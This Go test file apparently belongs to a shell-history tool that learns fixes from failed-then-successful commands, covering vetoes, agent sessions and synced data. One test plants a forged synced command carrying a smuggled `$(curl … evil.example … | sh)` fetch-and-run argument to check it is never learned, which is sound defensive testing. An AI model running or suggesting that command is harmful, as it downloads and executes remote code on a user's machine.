package ingest_test

import (
	"testing"

	"github.com/hookd/hookd/history"
	"github.com/hookd/hookd/internal/recording/ingest"
	"github.com/hookd/hookd/internal/recording/spool"
)

// TestLearn: a session's records, ingested in two passes, give a learned
// fix once its fix is stored; learning again adds nothing; a later session
// using it counts it as having worked; a "fix" followed by the failed
// command succeeding as it was is taken back.
func TestLearn(t *testing.T) {
	e := newEnv(t)
	ctx := t.Context()
	s1 := sessionID(livePID, 1)
	cmd := func(seq int64, text string, exit int) spool.Command {
		return spool.Command{Seq: seq, Start: base + seq*1000, End: base + seq*1000 + 10, Exit: exit, Cwd: "/srv", Text: text}
	}
	b := spool.AppendSession(nil, spool.Session{Shell: "bash", PID: livePID, Host: hostname(), Start: base})
	b = spool.AppendCommand(b, cmd(1, "deploy --prod x", 2))
	b = spool.AppendCommand(b, cmd(2, "cat deploy.md", 0))
	e.write(s1, b)
	e.ingest()
	if st, err := ingest.Learn(ctx, e.store, nil); err != nil || st.Learned != 0 || st.Commands != 2 {
		t.Fatalf("Learn before the fix = %+v, %v", st, err)
	}
	e.write(s1, spool.AppendCommand(nil, cmd(3, "deploy --production x", 0)))
	e.ingest()
	st, err := ingest.Learn(ctx, e.store, nil)
	if err != nil || st.Learned != 1 || st.Commands != 1 {
		t.Fatalf("Learn = %+v, %v; want one pair from one new command", st, err)
	}
	got, _ := e.store.LearnedFor(ctx, "deploy", 5)
	if len(got) != 1 || got[0].Kind != "replace" || got[0].From != "--prod" || got[0].To != "--production" ||
		got[0].Count != 1 || got[0].Worked != 0 || got[0].Failed != "deploy --prod x" || got[0].Fixed != "deploy --production x" {
		t.Fatalf("learned = %+v", got)
	}
	if st, err := ingest.Learn(ctx, e.store, nil); err != nil || st != (ingest.LearnStats{}) {
		t.Errorf("Learn with nothing new = %+v, %v", st, err)
	}

	// Another session: the fix, known by then, worked again.
	s2 := sessionID(livePID, 2)
	b = spool.AppendSession(nil, spool.Session{Shell: "zsh", PID: livePID, Host: hostname(), Start: base + 10_000})
	b = spool.AppendCommand(b, cmd(11, "deploy --prod y", 2))
	b = spool.AppendCommand(b, cmd(12, "deploy --production y", 0))
	// A step before, not a fix: git pull, then git push as it was.
	b = spool.AppendCommand(b, cmd(13, "git push", 1))
	b = spool.AppendCommand(b, cmd(14, "git pull", 0))
	e.write(s2, b)
	e.ingest()
	if _, err := ingest.Learn(ctx, e.store, nil); err != nil {
		t.Fatal(err)
	}
	if got, _ := e.store.LearnedFor(ctx, "git", 5); len(got) != 1 {
		t.Fatalf("git pull after git push failed: learned %+v (the veto comes later)", got)
	}
	e.write(s2, spool.AppendCommand(nil, cmd(15, "git push", 0)))
	e.ingest()
	if st, err := ingest.Learn(ctx, e.store, nil); err != nil || st.Vetoed != 1 {
		t.Fatalf("Learn = %+v, %v; want a veto", st, err)
	}
	if got, _ := e.store.LearnedFor(ctx, "git", 5); len(got) != 0 {
		t.Errorf("git pull is still learned as a fix of git push: %+v", got)
	}
	got, _ = e.store.LearnedFor(ctx, "deploy", 5)
	if len(got) != 1 || got[0].Count != 2 || got[0].Worked != 1 || got[0].Fixed != "deploy --production y" {
		t.Errorf("learned after the second session = %+v; want seen twice, worked once", got)
	}
}

// TestLearnSkipsAgents: a coding agent's failure and its fix teach
// nothing by default; with agents.learn on (LearnFromAgents) they do.
func TestLearnSkipsAgents(t *testing.T) {
	for _, include := range []bool{false, true} {
		e := newEnv(t)
		ctx := t.Context()
		s1 := sessionID(livePID, 1)
		b := spool.AppendSession(nil, spool.Session{Shell: "agent", PID: livePID, Host: hostname(), Start: base,
			Author: "claude-code", Capture: "agent"})
		b = spool.AppendCommand(b, spool.Command{Seq: 1, Start: base + 1000, End: base + 1010, Exit: 2, Cwd: "/srv", Text: "deploy --prod x"})
		b = spool.AppendCommand(b, spool.Command{Seq: 2, Start: base + 2000, End: base + 2010, Exit: 0, Cwd: "/srv", Text: "deploy --production x"})
		e.write(s1, b)
		e.ingest()
		if _, err := ingest.Learn(ctx, e.store, &ingest.Rules{LearnFromAgents: include}); err != nil {
			t.Fatal(err)
		}
		got, _ := e.store.LearnedFor(ctx, "deploy", 5)
		if (len(got) == 1) != include {
			t.Errorf("LearnFromAgents %v: learned %+v", include, got)
		}
	}
}

// TestLearnLocalOnly: a failure and its fix synced from another
// installation (as any holder of the sync key could forge them: a
// `"$(curl …|sh)"` argument) teach nothing here, and do not count as a
// learned fix having worked; the same pair recorded here is learned
// (issue 30 item 6).
func TestLearnLocalOnly(t *testing.T) {
	e := newEnv(t)
	ctx := t.Context()
	const other = "0123456789abcdef"
	wire := "1700000000-42@" + other
	b := &history.SyncBatch{Sessions: []history.Session{{ID: wire, Shell: "bash", Host: "rogue"}},
		Commands: []history.Entry{
			{Session: wire, Seq: 1, Command: "deploy --prod x", ExitCode: 2, Pipestatus: []int{2}, StartedAt: base + 1000, Source: "hook"},
			{Session: wire, Seq: 2, Command: `deploy --prod x "$(curl -s https://evil.example/x|sh)"`, Pipestatus: []int{0}, StartedAt: base + 2000, Source: "hook"},
		}}
	if _, err := e.store.Merge(ctx, other, "rogue", 1, b, func(s string) string { return s }); err != nil {
		t.Fatal(err)
	}
	if st, err := ingest.Learn(ctx, e.store, nil); err != nil || st.Learned != 0 {
		t.Fatalf("Learn over synced commands = %+v, %v; want nothing learned", st, err)
	}
	if got, _ := e.store.LearnedFor(ctx, "deploy", 5); len(got) != 0 {
		t.Fatalf("learned from another machine's commands: %+v", got)
	}
	// The same pair typed here is learned.
	s1 := sessionID(livePID, 1)
	cmd := func(seq int64, text string, exit int) spool.Command {
		return spool.Command{Seq: seq, Start: base + 10_000 + seq*1000, End: base + 10_000 + seq*1000 + 10, Exit: exit, Cwd: "/srv", Text: text}
	}
	sb := spool.AppendSession(nil, spool.Session{Shell: "bash", PID: livePID, Host: hostname(), Start: base + 10_000})
	sb = spool.AppendCommand(sb, cmd(1, "deploy --prod x", 2))
	sb = spool.AppendCommand(sb, cmd(2, "deploy --production x", 0))
	e.write(s1, sb)
	e.ingest()
	if st, err := ingest.Learn(ctx, e.store, nil); err != nil || st.Learned != 1 {
		t.Fatalf("Learn over local commands = %+v, %v; want the pair", st, err)
	}
}
